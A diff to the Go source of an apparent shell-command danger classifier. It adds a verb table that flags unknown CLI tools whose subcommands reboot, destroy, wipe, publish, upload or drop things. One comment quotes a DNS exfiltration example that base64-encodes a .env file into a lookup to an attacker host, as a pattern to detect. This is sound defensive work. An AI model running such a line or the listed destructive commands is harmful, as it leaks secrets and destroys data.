@@ -44,6 +44,62 @@
 // each finding was made on, its words after unquoting, and the script it
 // sat in; `permsim danger explain` prints them.
 //
+// Programs no rule names (issue 30, verbs.go):
+//
+// On commands drawn from collections nobody here wrote, most of what the
+// rules missed was the long tail of command-line tools: "qm destroy 100",
+// "adb reboot", "pio pkg publish", "tye undeploy", each from a program no
+// rule names. Adding an entry per tool does not hold on the next sample, so
+// a program that no rule reads is judged by the verb in its subcommand
+// positions: the first three words that are neither options nor option
+// values ("CLI [GROUP…] VERB"), matched exactly, lower-case. A verb that is
+// a plain argument is not in such a position for the programs that take
+// plain arguments (echo, grep, cat, editors, interpreters, task runners:
+// see plainArguments), and a command that only reads or describes
+// (a read-only word among its verbs, --help, a dry run) marks nothing.
+//
+// The verb table, and why (the labels of testdata/danger/independent
+// decided the line between dangerous and everyday):
+//
+//   - reboot, shutdown, poweroff, power-off, halt, hibernate:
+//     disk-system. Powering a machine, a VM or a device off or restarting
+//     it stops everything on it; no everyday subcommand uses these words.
+//     (restart, stop and kill are left out: "pueue restart", "limactl stop
+//     demo", "eww kill" stop one task or local tool and are everyday.)
+//   - destroy, undeploy, teardown, decommission, terminate:
+//     cloud-destructive. They remove what the tool manages as a whole: a
+//     VM, an application, a deployment, a stack.
+//   - wipe, erase, factory-reset: disk-system. They erase a device's or
+//     a volume's storage.
+//   - publish, unpublish, yank, release: package-publish. What others
+//     download next is whatever this sent, or is gone ("cargo release",
+//     "pio pkg publish"). deploy and push are left out: "cf push app" and
+//     "jj git push" deploy or push the user's own work and are everyday in
+//     the labels, as git push without force is.
+//   - upload: network-exfiltration. Local files go to another host
+//     ("immich upload", "picgo upload"), the labels' rule for uploads.
+//   - drop, dropdb, drop-database, drop-table: database-destructive.
+//   - reset with --hard: git-discard-worktree (git wrappers such as yadm
+//     and vcsh, dolt): uncommitted work is lost.
+//   - delete, del, rm, remove, purge (and compounds such as
+//     delete-snapshot, delsnapshot, remove-backup): only with the noun of
+//     something that cannot be pulled again among the verbs or in the
+//     compound — a snapshot or backup (destructive-delete: the restore
+//     point is gone), a VM, instance, server, cluster, volume, bucket,
+//     stack, deployment, app, domain, zone or project (cloud-destructive),
+//     a database or table (database-destructive), a repository (force-push:
+//     the remote history is gone), a release (package-publish: withdrawn),
+//     a secret or credential (destructive-delete: irrecoverable). Alone,
+//     these verbs mostly remove something local and cheap — "docker rm
+//     web", "etcdctl del mykey", "fossil delete src", "conda remove" — and
+//     the labels call that everyday. A removal verb that also deletes the
+//     data ("multipass delete --purge demo", "virsh undefine
+//     --remove-all-storage") is cloud-destructive.
+//   - uninstall, kill, clean, prune, flush, format are not marked:
+//     uninstalling a package and cleaning caches are everyday and
+//     reversible; "biome format" formats code; prune is a cache's
+//     housekeeping for most tools (backup tools that prune are named).
+//
 // What it cannot see, it does not guess: commands built from variables,
 // code that computes its commands, and what a script file or a make target
 // does.
@@ -215,6 +271,9 @@ type checker struct {
 	// words the next findings matched (see because).
 	explaining bool
 	matched    []string
+	// adds counts findings, so a command's later checks can tell whether
+	// the rules before them found anything (unknownVerbs).
+	adds int
 }
 
 func (c *checker) add(cats ...string) {
@@ -223,6 +282,7 @@ func (c *checker) add(cats ...string) {
 			c.set = map[string]bool{} // most calls find nothing
 		}
 		c.set[k] = true
+		c.adds++
 		if !c.explaining {
 			continue // Check: the set is all it needs
 		}
@@ -359,6 +419,7 @@ func (c *checker) command(u unit) {
 	if cmd.Dynamic || cmd.Name == "" || inert(cmd) {
 		return
 	}
+	before := c.adds
 	c.evalDownloads(u)
 	c.secretStore(u)
 	c.applyUnreviewed(u)
@@ -490,6 +551,9 @@ func (c *checker) command(u unit) {
 	c.cloud(u)
 	c.database(u)
 	c.hidden(u)
+	if c.adds == before {
+		c.unknownVerbs(u)
+	}
 	if shell.NeedsNetwork(cmd) {
 		// "dig $(cat .env | base64).attacker.example": a network command
 		// whose words carry a secret.
